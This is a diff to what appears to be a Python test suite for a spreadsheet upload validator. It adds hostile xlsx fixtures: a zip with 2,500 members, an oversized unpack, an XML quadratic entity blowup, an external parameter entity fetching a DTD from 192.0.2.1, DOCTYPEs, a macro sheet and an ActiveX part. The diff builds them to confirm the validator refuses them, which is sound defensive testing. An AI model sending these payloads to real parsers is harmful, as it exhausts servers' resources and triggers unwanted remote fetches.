@@ -182,6 +182,37 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], FindingCode]] = {
     ),
     "old Excel format": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(512), C.UNSUPPORTED_TYPE),
     "only a signature": (lambda: b"PK\x03\x04", C.BROKEN_FILE),
+    "two and a half thousand members": (
+        lambda: changed(**{f"xl__media__m{n}_dot_xml": b"<a/>" for n in range(2_500)}),
+        C.TOO_MANY_MEMBERS,
+    ),
+    "zeros in every part": (
+        lambda: changed(**{f"xl__media__m{n}_dot_bin": bytes(5_000_000) for n in range(11)}),
+        C.UNPACKS_TOO_LARGE,
+    ),
+    "quadratic blowup": (
+        lambda: changed(
+            xl__sharedStrings_dot_xml=b'<!DOCTYPE a [<!ENTITY x "'
+            + b"h" * 50_000
+            + b'">]><a>'
+            + b"&x;" * 50_000
+            + b"</a>"
+        ),
+        C.UNPACKS_TOO_LARGE,
+    ),
+    "parameter entity": (
+        lambda: changed(xl__workbook_dot_xml=b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><a/>'),
+        C.XML_DOCTYPE,
+    ),
+    "doctype in the sheet": (lambda: changed(xl__worksheets__sheet1_dot_xml=b"<!DOCTYPE a><a/>"), C.XML_DOCTYPE),
+    "doctype in a relation": (lambda: changed(xl___rels__workbook_dot_xml_dot_rels=b"<!DOCTYPE a><a/>"), C.XML_DOCTYPE),
+    "macro sheet": (lambda: changed(xl__macrosheets__sheet1_dot_xml=b"<a/>"), C.ACTIVE_CONTENT),
+    "control that runs code": (lambda: changed(xl__activeX__activeX1_dot_bin=b"x"), C.ACTIVE_CONTENT),
+    "row number below one": (
+        lambda: changed(xl__worksheets__sheet1_dot_xml=sheet(b'<row r="-5"><c><v>1</v></c></row>')),
+        C.BROKEN_FILE,
+    ),
+    "nothing": (lambda: b"", C.FILE_EMPTY),
 }
 
 
@@ -209,6 +240,7 @@ def test_a_hostile_text_file_is_refused_for_what_it_is(name: str) -> None:
 
 def test_no_hostile_file_costs_more_than_two_seconds_or_256_mebibytes(tmp_path: Path) -> None:
     """All of them in one fresh process, away from the tracing of test coverage."""
+    assert len(HOSTILE) + len(HOSTILE_TEXTS) >= 50
     for name, (make, _) in HOSTILE.items():
         (tmp_path / f"{name}.xlsx").write_bytes(make())
     for name, (data, _) in HOSTILE_TEXTS.items():
